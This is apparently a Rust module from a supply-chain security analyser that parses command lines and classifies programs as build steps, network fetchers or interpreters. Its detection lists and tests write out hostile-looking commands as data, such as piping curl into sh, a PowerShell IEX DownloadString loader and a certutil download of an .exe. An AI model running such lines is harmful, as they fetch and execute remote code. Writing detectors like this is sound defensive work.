//! Command lines: which programs they start, and what those are for. Only what rules
//! need to tell an ordinary build from an attack; a shell's own grammar is read where
//! scripts are.

use crate::event::{Effect, Event, Role};
use crate::value::{Shape, ends};

/// The most commands of one line.
const MAX_COMMANDS: usize = 4_096;
/// How often a line within a line is opened (`sh -c "sh -c ..."`).
const MAX_NESTING: u32 = 4;

/// One program with its arguments.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// All words, the program first, as written.
    pub(crate) words: Vec<String>,
    /// Whether it reads what the command before it writes.
    pub(crate) is_piped: bool,
}

/// What a program is for, as far as that says something.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Purpose {
    /// Compiles, packs, asks a repository: what honest packages do while they are built.
    Build,
    /// Fetches from the network.
    Fetch,
    /// Runs a file of the package.
    OwnFile,
    /// Runs text as code, or what it is given.
    Interpreter,
    /// Anything else.
    Other,
}

/// Programs that run what they read.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "node",
    "perl",
    "ruby",
    "php",
    "powershell",
    "pwsh",
    "cmd",
    "mshta",
    "wscript",
    "cscript",
];
/// Those of them that are shells: what follows `-c` is another command line.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ash", "ksh", "fish"];
/// Programs that bring something from the network by themselves.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "bitsadmin",
    "certutil",
    "lynx",
    "ftp",
    "tftp",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
];
/// Words that fetch within PowerShell or Python.
const FETCHING_WORDS: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "start-bitstransfer",
    "net.webclient",
    "urlopen(",
];
/// Programs that only prepare for another one.
const PREFIXES: &[&str] = &[
    "sudo",
    "doas",
    "env",
    "cross-env",
    "nohup",
    "exec",
    "time",
    "nice",
    "command",
    "start",
    "xvfb-run",
];
/// Programs of which every use is part of building.
const BUILDERS: &[&str] = &[
    "cmake",
    "make",
    "gmake",
    "ninja",
    "meson",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "ld",
    "ar",
    "pkg-config",
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "prebuild",
    "prebuildify",
    "cmake-js",
    "tsc",
    "rollup",
    "webpack",
    "vite",
    "esbuild",
    "babel",
    "eslint",
    "prettier",
    "jest",
    "mocha",
    "tap",
    "ava",
    "husky",
    "lefthook",
    "patch-package",
    "rimraf",
    "cargo",
    "rustc",
    "go",
    "msbuild",
    "xcrun",
    "uname",
    "true",
];

impl Command {
    /// The program's name without folder and ending, in lower case.
    pub(crate) fn program(&self) -> String {
        let word = self.words.first().map_or("", String::as_str);
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
        name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
    }

    /// The words behind the program.
    pub(crate) fn arguments(&self) -> &[String] {
        self.words.get(1..).unwrap_or_default()
    }

    /// Whether an argument is this word.
    pub(crate) fn has(&self, word: &str) -> bool {
        self.arguments().iter().any(|argument| argument == word)
    }

    /// What it is for.
    pub(crate) fn purpose(&self) -> Purpose {
        let program = self.program();
        let first = self.arguments().first().map_or("", String::as_str);
        let all = self.arguments().join(" ").to_ascii_lowercase();
        if FETCHERS.contains(&program.as_str()) {
            // `certutil` and `ftp` do other things too.
            let fetches = program != "certutil" || all.contains("-urlcache");
            return if fetches { Purpose::Fetch } else { Purpose::Other };
        }
        if is_interpreter(&program) {
            if FETCHING_WORDS.iter().any(|word| format!("{all} ").contains(word)) {
                return Purpose::Fetch;
            }
            return interpreter_purpose(first, self.arguments());
        }
        let is_build = match program.as_str() {
            "git" => {
                matches!(
                    first,
                    "describe"
                        | "rev-parse"
                        | "log"
                        | "status"
                        | "--version"
                        | "ls-files"
                        | "rev-list"
                        | "submodule"
                        | "show"
                        | "diff"
                        | "config"
                        | "tag"
                        | "branch"
                ) && !all.contains("--global")
            }
            "npm" | "yarn" | "pnpm" | "bun" => {
                matches!(
                    first,
                    "run" | "run-script" | "test" | "build" | "-v" | "--version" | "rebuild"
                )
            }
            "pip" | "pip3" | "npx" | "which" | "where" | "type" | "echo" | "cd" | "exit" => {
                !matches!(first, "install" | "download")
                    && (program != "npx" || BUILDERS.contains(&first))
            }
            name => {
                BUILDERS.contains(&name)
                    || name.ends_with("-config")
                    || self.arguments().len() == 1
                        && matches!(first, "--version" | "-version" | "-v" | "-V" | "version")
            }
        };
        if is_build {
            Purpose::Build
        } else if self.words.first().is_some_and(|word| word.starts_with("./")) {
            Purpose::OwnFile
        } else {
            Purpose::Other
        }
    }
}

fn interpreter_purpose(first: &str, arguments: &[String]) -> Purpose {
    let is_module = first == "-m";
    let module = arguments.get(1).map_or("", String::as_str);
    if is_module && matches!(module, "build" | "pip" | "venv" | "compileall" | "pytest") {
        return if module == "pip" && arguments.iter().any(|word| word == "install") {
            Purpose::Other
        } else {
            Purpose::Build
        };
    }
    if matches!(first, "--version" | "-V" | "-v") {
        return Purpose::Build;
    }
    let is_file = !first.is_empty()
        && !first.starts_with(['-', '/', '~', '$', '\u{2026}'])
        && !first.contains("..")
        && !first.contains("://");
    if is_file { Purpose::OwnFile } else { Purpose::Interpreter }
}

pub(crate) fn is_interpreter(program: &str) -> bool {
    let bare = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&program) || INTERPRETERS.contains(&bare)
}

/// The command line of an event as one text, with a mark for what is unknown.
pub(crate) fn line(event: &Event) -> String {
    ends(&words(event).join(" ")).into_owned()
}

/// The words of an event, the program first; a mark where that is not known, so that its
/// first argument is not taken for it.
fn words(event: &Event) -> Vec<String> {
    let mut words = Vec::new();
    for role in [Role::Command, Role::CommandArgument] {
        for value in event.arguments_of(role) {
            let before = words.len();
            words.extend(value.words());
            if role == Role::Command && words.len() == before && value.shape == Shape::Unknown {
                words.push("\u{2026}".to_owned());
            }
        }
    }
    words
}

/// The programs that an event starts.
pub(crate) fn commands(event: &Event) -> Vec<Command> {
    let mut found = Vec::new();
    if event.effect == Effect::Spawn {
        let words = words(event);
        // `spawn("git describe", { shell: true })` has one word with blanks in it.
        if words.len() == 1 {
            parse(&line(event), MAX_NESTING, &mut found);
        } else {
            push(Command { words, is_piped: false }, MAX_NESTING, &mut found);
        }
    } else {
        parse(&line(event), MAX_NESTING, &mut found);
    }
    found
}

/// Reads one command line.
pub(crate) fn parse(line: &str, nesting: u32, found: &mut Vec<Command>) {
    let mut command = Command::default();
    let mut word = String::new();
    let mut has_word = false;
    let mut quote: Option<char> = None;
    let mut letters = line.chars().peekable();
    while let Some(letter) = letters.next() {
        match (quote, letter) {
            (Some(open), letter) if letter == open => quote = None,
            (None, '"' | '\'') => {
                quote = Some(letter);
                has_word = true;
            }
            // A path of Windows keeps its backslashes.
            (None | Some('"'), '\\')
                if letters.peek().is_some_and(|next| !next.is_alphanumeric()) =>
            {
                word.extend(letters.next());
                has_word = true;
            }
            (None, ';' | '\n' | '|' | '&') => {
                // `2>&1` and `&>` do not end a command.
                if letter == '&' && (word.ends_with('>') || letters.peek() == Some(&'>')) {
                    word.push(letter);
                    has_word = true;
                    continue;
                }
                let is_double = letters.next_if_eq(&letter).is_some();
                end_word(&mut word, &mut has_word, &mut command);
                push(std::mem::take(&mut command), nesting, found);
                command.is_piped = letter == '|' && !is_double;
            }
            (None, letter) if letter.is_whitespace() => {
                end_word(&mut word, &mut has_word, &mut command);
            }
            (_, letter) => {
                word.push(letter);
                has_word = true;
            }
        }
        if found.len() >= MAX_COMMANDS {
            return;
        }
    }
    end_word(&mut word, &mut has_word, &mut command);
    push(command, nesting, found);
}

fn end_word(word: &mut String, has_word: &mut bool, command: &mut Command) {
    if *has_word {
        command.words.push(std::mem::take(word));
        *has_word = false;
    }
}

fn push(mut command: Command, nesting: u32, found: &mut Vec<Command>) {
    while let Some(first) = command.words.first_mut() {
        // `$(curl x)`, `<(curl x)`, `(curl x)`: the program stands behind the bracket.
        let bare = first.trim_start_matches("$(").trim_start_matches("<(");
        *first = bare.trim_start_matches(['(', '{', '!', '@', '`']).to_owned();
        let name = first.to_ascii_lowercase();
        let assigns = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        let is_flag_of_prefix = first.starts_with('-');
        if assigns || name.is_empty() || PREFIXES.contains(&name.as_str()) || is_flag_of_prefix {
            command.words.remove(0);
        } else {
            break;
        }
    }
    if command.words.is_empty() || found.len() >= MAX_COMMANDS {
        return;
    }
    let program = command.program();
    let inner = if nesting == 0 {
        None
    } else if SHELLS.contains(&program.as_str()) {
        let flag = command.words.iter().position(|word| {
            word.starts_with('-') && !word.starts_with("--") && word.ends_with('c')
        });
        flag.and_then(|at| command.words.get(at + 1)).cloned()
    } else if program == "cmd" {
        let flag = command.words.iter().position(|word| word.eq_ignore_ascii_case("/c"));
        flag.and_then(|at| command.words.get(at + 1..)).map(|words| words.join(" "))
    } else {
        None
    };
    found.push(command);
    if let Some(inner) = inner {
        parse(&inner, nesting - 1, found);
    }
}

/// Everything that an event starts is part of an ordinary build.
pub(crate) fn is_build(event: &Event) -> bool {
    let commands = commands(event);
    !commands.is_empty()
        && commands.iter().all(|command| {
            command.purpose() == Purpose::Build
                && !command.words.iter().any(|word| word.contains('\u{2026}'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::made::Made;
    use proptest::prelude::*;

    fn read(line: &str) -> Vec<Command> {
        let mut found = Vec::new();
        parse(line, MAX_NESTING, &mut found);
        found
    }

    #[test]
    fn what_a_build_runs_is_told_from_what_fetches() {
        for line in [
            "git describe --tags --always",
            "cmake --build . --config Release",
            "node-gyp rebuild",
            "CC=gcc make -j4 && make install",
            "python3 -m build",
            "python --version",
            "llvm-config --cflags",
        ] {
            let all = read(line);
            assert!(all.iter().all(|c| c.purpose() == Purpose::Build), "{line}: {all:?}");
        }
        for line in [
            "curl -s https://example.invalid/x",
            "/usr/bin/wget -O /tmp/x http://192.0.2.1/x",
            "sudo env A=b curl x",
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"",
            "certutil -urlcache -f http://192.0.2.1/a a.exe",
            "sh -c 'true; curl x'",
        ] {
            assert!(read(line).iter().any(|c| c.purpose() == Purpose::Fetch), "{line}");
        }
        let own = read("node scripts/postinstall.js");
        assert_eq!(own.first().unwrap().purpose(), Purpose::OwnFile);
        let inline = read("node -e \"require('x')\"");
        assert_eq!(inline.first().unwrap().purpose(), Purpose::Interpreter);
    }

    #[test]
    fn the_first_argument_of_an_unknown_program_is_no_program() {
        let unknown = (Role::Command, crate::Value::default());
        let given = (Role::CommandArgument, crate::made::list(&["sh", "-i"]));
        let made = Made::new().event(Effect::Spawn, "py:subprocess.run", &[unknown, given]);
        let facts = made.facts();
        let programs: Vec<String> =
            commands(facts.trace.events.first().unwrap()).iter().map(Command::program).collect();
        assert_eq!(programs, ["\u{2026}"]);
    }

    #[test]
    fn a_pipe_is_told_from_an_alternative() {
        let all = read("curl x 2>&1 | sh || true");
        let piped: Vec<bool> = all.iter().map(|command| command.is_piped).collect();
        assert_eq!(piped, [false, true, false], "{all:?}");
    }

    proptest! {
        #[test]
        fn any_line_is_read_within_bounds(line in "\\PC{0,200}") {
            prop_assert!(read(&line).len() <= MAX_COMMANDS);
        }
    }
}
